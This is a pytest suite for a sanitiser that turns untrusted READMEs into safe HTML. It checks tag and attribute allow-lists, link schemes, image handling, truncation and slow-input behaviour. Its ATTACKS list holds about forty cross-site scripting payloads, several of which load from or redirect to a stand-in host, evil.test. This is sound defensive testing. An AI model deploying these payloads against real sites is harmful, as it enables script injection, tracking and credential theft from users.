"""READMEs written by strangers: nothing in them runs, frames, styles, loads or lies about where it leads."""

import re
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gallery.readme import MAX_CHARACTERS, TAGS, readme_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<SCRIPT >alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/pixel.png>",
    "![pixel](https://evil.test/pixel.png)",
    '![x](javascript:alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(//evil.test)'>x</div>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='//evil.test' target=_top>x</a>",
    "<javascript:alert(1)>",
    "<https://evil.test/\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a id=main name=csrfmiddlewaretoken class=button>x</a>",
    "<div data-live=/hosts/ hx-get=/sign-out/ hx-trigger=load>x</div>",
    "<template><script>alert(1)</script></template>",
    "<audio src=x onerror=alert(1)><video poster=//evil.test>",
    "<x onclick=alert(1)>x</x>",
    "\x00<script>alert(1)</script>",
]  # fmt: skip
TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
ATTRIBUTE = re.compile(r"([a-zA-Z-]+)\s*=")


def check_harmless(html: str) -> None:
    """Every tag and attribute in `html` is one of those that are allowed."""
    for name, rest in TAG.findall(html):
        assert name.lower() in TAGS, html
        attributes = {attribute.lower() for attribute in ATTRIBUTE.findall(re.sub(r'"[^"]*"', '""', rest))}
        assert attributes <= {"href", "rel", "title", "start", "colspan", "scope"}, html
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), html


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_harmless(text: str) -> None:
    check_harmless(readme_html(text))
    check_harmless(readme_html(f"# Title\n\n- {text}\n\n> {text}\n\n| a |\n|---|\n| {text} |\n"))


@given(st.text(alphabet=st.sampled_from(list("<>/=\"'()[]!`*_#-:;& \n\tascriptonimghefv.x")), max_size=300))
@settings(max_examples=300, deadline=None)
def test_nothing_else_gets_through_either(text: str) -> None:
    check_harmless(readme_html(text))


def test_text_that_people_write() -> None:
    html = readme_html(
        '# What is it?\n\nA **fast** [server](https://nginx.org/ "home") ~~slow~~.\n\n'
        "```console\n$ docker run -p 80:80 nginx\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n"
    )
    assert "<h2>What is it?</h2>" in html
    assert "<strong>fast</strong>" in html
    assert '<a href="https://nginx.org/" title="home" rel="nofollow noopener noreferrer ugc">server</a>' in html
    assert "<pre><code>$ docker run -p 80:80 nginx\n</code></pre>" in html
    assert "<td>1</td>" in html
    assert "<ol>" in html


def test_pictures_become_their_text() -> None:
    html = readme_html("![the logo](https://evil.test/logo.png) ![](https://evil.test/x.png)")
    assert "<em>the logo</em>" in html
    assert "evil" not in html


def test_links_that_lead_nowhere_lose_their_address() -> None:
    html = readme_html("[a](/_/mysql/) [b](#usage) [c](./x.md)")
    assert "href" not in html
    assert "a" in html


def test_comments_are_not_shown() -> None:
    assert readme_html("a\n\n<!-- hidden -->\n\nb") == "<p>a</p>\n\n<p>b</p>\n"


def test_a_megabyte_is_cut_and_quick() -> None:
    started = time.monotonic()
    html = readme_html("word " * 200_000)
    assert time.monotonic() - started < 3
    assert len(html) < MAX_CHARACTERS + 500
    assert "longer than this page shows" in html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 60_000,
        "> " * 30_000,
        "*a " * 20_000,
        "`" * 60_000,
        "<" * 60_000,
        "- " * 30_000,
        "![" * 30_000,
        "a|" * 30_000,
    ],
)
def test_hostile_repetition_ends(text: str) -> None:
    started = time.monotonic()
    check_harmless(readme_html(text))
    assert time.monotonic() - started < 5


@pytest.mark.shared
def test_real_ones(shared_data: Path) -> None:
    import json

    for file in sorted((shared_data / "official-images").glob("*.json"))[::6]:
        text = json.loads(file.read_text()).get("full_description") or ""
        html = readme_html(text)
        check_harmless(html)
        assert not text or "<h2>" in html
